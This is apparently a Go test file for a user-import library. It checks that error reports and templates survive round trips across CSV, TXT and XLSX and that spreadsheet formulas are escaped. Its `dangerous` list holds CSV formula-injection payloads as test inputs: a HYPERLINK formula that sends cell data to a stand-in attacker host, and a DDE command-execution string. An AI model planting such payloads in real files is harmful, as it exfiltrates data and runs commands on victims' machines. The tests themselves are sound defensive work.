package importer

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/charmap"
)

// dangerous holds cells a spreadsheet would run as formulas.
var dangerous = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+447911123456",
	"-2+3",
	"@SUM(1+1)",
	"=cmd|' /C calc'!A0",
}

// TestWriteErrorsRoundTrip writes the errors file of an upload in every
// format and reads it back: the same rows, the Errors column, formulas
// neutralised in the bytes and restored on reading.
func TestWriteErrorsRoundTrip(t *testing.T) {
	t.Parallel()
	rows := userRows(6)
	rows[1][7] = dangerous[0]
	rows[2][8] = dangerous[2]
	rows[3][9] = dangerous[3]
	rows[4][0] = dangerous[4]
	errs := map[int][]string{
		1: {"Login: already a user of this account"},
		3: {"Mobile Phone number: is not a valid phone number", "=Email Address: is required"},
	}
	tests := []struct {
		name string
		file string
		data []byte
	}{
		{"csv", "u.csv", textFile(t, seedHeader(), rows, ',', UTF8)},
		{"csv semicolon bom", "u.csv", textFile(t, seedHeader(), rows, ';', UTF8BOM)},
		{"csv windows-1252", "u.csv", to1252(t, textFile(t, seedHeader(), rows, ',', UTF8))},
		{"txt utf-16le", "u.txt", textFile(t, seedHeader(), rows, '\t', UTF16LE)},
		{"txt utf-16be", "u.txt", textFile(t, seedHeader(), rows, '\t', UTF16BE)},
		{"xlsx", "u.xlsx", xlsxFile(t, "Staff", seedHeader(), rows, false)},
		{"headerless csv", "u.csv", textFile(t, nil, rows, ',', UTF8)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			in, err := ReadTable(t.Context(), bytes.NewReader(tt.data), tt.file, Limits{})
			require.NoError(t, err)
			var out bytes.Buffer
			require.NoError(t, WriteErrors(t.Context(), &out, in, errs))

			// Nothing in the file starts like a formula, in any format.
			for _, cell := range rawCells(t, in.Format, in.Encoding, out.Bytes()) {
				assert.False(t, formulaStart(cell), "cell %q is not neutralised", cell)
			}
			if in.Format == XLSX {
				assert.NotContains(t, sheetXML(t, out.Bytes()), "<f>", "no formula cells")
			}

			back, err := ReadTable(t.Context(), bytes.NewReader(out.Bytes()), tt.file, Limits{})
			require.NoError(t, err)
			assert.Equal(t, in.Format, back.Format)
			assert.Equal(t, in.Delimiter, back.Delimiter)
			if strings.Contains(tt.name, "1252") {
				require.Equal(t, Windows1252, in.Encoding)
			}
			if in.Encoding != Windows1252 {
				assert.Equal(t, in.Encoding, back.Encoding)
			} else {
				assert.Equal(t, UTF8BOM, back.Encoding)
			}
			wantHeader := in.Header
			if wantHeader == nil {
				wantHeader = seedHeader()
			}
			assert.Equal(t, append(append([]string(nil), wantHeader...), "Errors"), back.Header)
			require.Len(t, back.Rows, len(in.Rows))
			for i, r := range back.Rows {
				assert.Equal(t, in.Rows[i].Line+boolInt(in.Header == nil), r.Line)
				want := append([]string(nil), in.Rows[i].Cells...)
				for len(want) < len(wantHeader) {
					want = append(want, "")
				}
				want = append(want, strings.Join(errs[i], "; "))
				got := r.Cells
				for len(got) < len(want) {
					got = append(got, "")
				}
				assert.Equal(t, want, got, "row %d", i)
			}
			// The errors file maps like the upload, its Errors column
			// ignored, so a corrected file imports as it is.
			m, err := back.Mapping()
			require.NoError(t, err)
			assert.Empty(t, m.Unknown)

			// A second round replaces the Errors column, not repeats it.
			var again bytes.Buffer
			require.NoError(t, WriteErrors(t.Context(), &again, back, map[int][]string{0: {"new"}}))
			third, err := ReadTable(t.Context(), &again, tt.file, Limits{})
			require.NoError(t, err)
			assert.Equal(t, back.Header, third.Header)
			assert.Equal(t, "new", third.Rows[0].Cell(len(third.Header)-1))
			assert.Equal(t, "", third.Rows[1].Cell(len(third.Header)-1))
		})
	}
}

func TestWriteErrorsNeutralises(t *testing.T) {
	t.Parallel()
	tab := &Table{Format: CSV, Delimiter: ',', Encoding: UTF8, Header: []string{"Login", "=Notes"},
		Rows: []Row{{Line: 2, Cells: []string{"ann1", "=1+2"}}, {Line: 3, Cells: []string{"@bob", "\tx"}}}}
	var out bytes.Buffer
	require.NoError(t, WriteErrors(t.Context(), &out, tab, map[int][]string{1: {"-bad"}}))
	assert.Equal(t, "Login,'=Notes,Errors\r\nann1,'=1+2,\r\n'@bob,'\tx,'-bad\r\n", out.String())
}

func TestWriteErrorsErrors(t *testing.T) {
	t.Parallel()
	require.Error(t, WriteErrors(t.Context(), io.Discard, nil, nil))
	err := WriteErrors(t.Context(), io.Discard, &Table{Format: "ods"}, nil)
	require.ErrorContains(t, err, "cannot write format")

	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	tab, err := ReadTable(t.Context(), bytes.NewReader(textFile(t, seedHeader(), userRows(600), ',', UTF8)), "u.csv", Limits{})
	require.NoError(t, err)
	var out bytes.Buffer
	require.ErrorIs(t, WriteErrors(ctx, &out, tab, nil), context.Canceled)
	assert.Zero(t, out.Len(), "nothing written once cancelled")

	require.ErrorContains(t, WriteErrors(t.Context(), failWriter{}, tab, nil), "importer: write")
	tab.Format = XLSX
	require.ErrorContains(t, WriteErrors(t.Context(), failWriter{}, tab, nil), "importer: write xlsx")
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

// TestWriteTemplate reads each template back: it maps cleanly, its
// example row holds the example values, and in xlsx the phone cells are
// text and a Notes sheet lists every column's rule.
func TestWriteTemplate(t *testing.T) {
	t.Parallel()
	for _, f := range []Format{CSV, TXT, XLSX} {
		t.Run(string(f), func(t *testing.T) {
			t.Parallel()
			var buf bytes.Buffer
			require.NoError(t, WriteTemplate(t.Context(), &buf, f))
			tab, err := ReadTable(t.Context(), bytes.NewReader(buf.Bytes()), "example"+f.Ext(), Limits{})
			require.NoError(t, err)
			assert.Equal(t, seedHeader(), tab.Header)
			require.Len(t, tab.Rows, 1)
			m, err := tab.Mapping()
			require.NoError(t, err)
			assert.Empty(t, m.Unknown)
			rec := m.Record(tab.Rows[0].Cells)
			for _, n := range TemplateNotes()[:numSeedFields] {
				assert.Equal(t, n.Example, rec.Get(n.Field), n.Header)
			}
			switch f {
			case CSV:
				assert.Equal(t, UTF8BOM, tab.Encoding)
				assert.Equal(t, ',', tab.Delimiter)
			case TXT:
				assert.Equal(t, UTF16LE, tab.Encoding)
				assert.Equal(t, '\t', tab.Delimiter)
			case XLSX:
				assert.Equal(t, "Users", tab.Sheet)
				x, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
				require.NoError(t, err)
				defer x.Close()
				assert.Equal(t, []string{"Users", "Notes"}, x.GetSheetList())
				typ, err := x.GetCellType("Users", "E2")
				require.NoError(t, err)
				assert.Equal(t, excelize.CellTypeInlineString, typ, "the phone is text, not a number")
				notes, err := x.GetRows("Notes")
				require.NoError(t, err)
				require.Greater(t, len(notes), len(Fields()))
				assert.Equal(t, []string{"Column", "Required", "Rule", "Example"}, notes[0])
				assert.Equal(t, "Login", notes[3][0])
				assert.Equal(t, "mandatory", notes[3][1])
				assert.Contains(t, notes[3][2], "at least 4 characters")
				assert.Contains(t, strings.Join(notes[len(notes)-5], ""), "5,000")
			}
		})
	}
	require.ErrorContains(t, WriteTemplate(t.Context(), io.Discard, "pdf"), "cannot write format")
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	require.ErrorIs(t, WriteTemplate(ctx, io.Discard, CSV), context.Canceled)
}

func TestTemplateNotes(t *testing.T) {
	t.Parallel()
	notes := TemplateNotes()
	require.Len(t, notes, len(Fields()))
	for i, n := range notes {
		assert.Equal(t, Fields()[i], n.Field)
		assert.Equal(t, n.Field.Header(), n.Header)
		assert.Equal(t, n.Field.Mandatory(), n.Mandatory)
		assert.NotEmpty(t, n.Rule)
		assert.Equal(t, n.Mandatory, strings.HasPrefix(n.Rule, "mandatory"), n.Header)
	}
	assert.Contains(t, strings.Join(FileNotes(0), " "), "Up to 5,000 users")
	assert.Contains(t, strings.Join(FileNotes(1234567), " "), "Up to 1,234,567 users")
	assert.Equal(t, "999", thousands(999))
}

// rawCells returns every cell of a written file as stored, before
// ReadTable would restore neutralised cells.
func rawCells(t *testing.T, f Format, enc Encoding, data []byte) []string {
	t.Helper()
	var out []string
	if f == XLSX {
		x, err := excelize.OpenReader(bytes.NewReader(data))
		require.NoError(t, err)
		defer x.Close()
		rows, err := x.GetRows(x.GetSheetList()[0])
		require.NoError(t, err)
		for _, r := range rows {
			out = append(out, r...)
		}
		return out
	}
	text, _, err := decodeText("raw", data)
	require.NoError(t, err)
	delim, _ := sepLine(text)
	if delim == 0 {
		delim = detectDelimiter(text, f)
	}
	for _, rec := range csvRecords(t, text, delim) {
		out = append(out, rec...)
	}
	return out
}

// to1252 encodes UTF-8 text in Windows-1252.
func to1252(t *testing.T, utf8Text []byte) []byte {
	t.Helper()
	b, err := charmap.Windows1252.NewEncoder().Bytes(utf8Text)
	require.NoError(t, err)
	return b
}

// csvRecords splits text without any of ReadTable's cell rules.
func csvRecords(t *testing.T, text []byte, delim byte) [][]string {
	t.Helper()
	var recs [][]string
	var cur []string
	var cell strings.Builder
	inQuote := false
	for i := 0; i < len(text); i++ {
		b := text[i]
		switch {
		case inQuote && b == '"' && i+1 < len(text) && text[i+1] == '"':
			cell.WriteByte('"')
			i++
		case b == '"' && (inQuote || cell.Len() == 0):
			inQuote = !inQuote
		case !inQuote && b == delim:
			cur = append(cur, cell.String())
			cell.Reset()
		case !inQuote && b == '\n':
			cur = append(cur, strings.TrimSuffix(cell.String(), "\r"))
			cell.Reset()
			recs = append(recs, cur)
			cur = nil
		default:
			cell.WriteByte(b)
		}
	}
	return recs
}

// sheetXML returns the XML of an xlsx file's first worksheet.
func sheetXML(t *testing.T, data []byte) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err)
	for _, f := range zr.File {
		if f.Name == "xl/worksheets/sheet1.xml" {
			rc, err := f.Open()
			require.NoError(t, err)
			defer rc.Close()
			b, err := io.ReadAll(rc)
			require.NoError(t, err)
			return string(b)
		}
	}
	t.Fatal("no worksheet")
	return ""
}
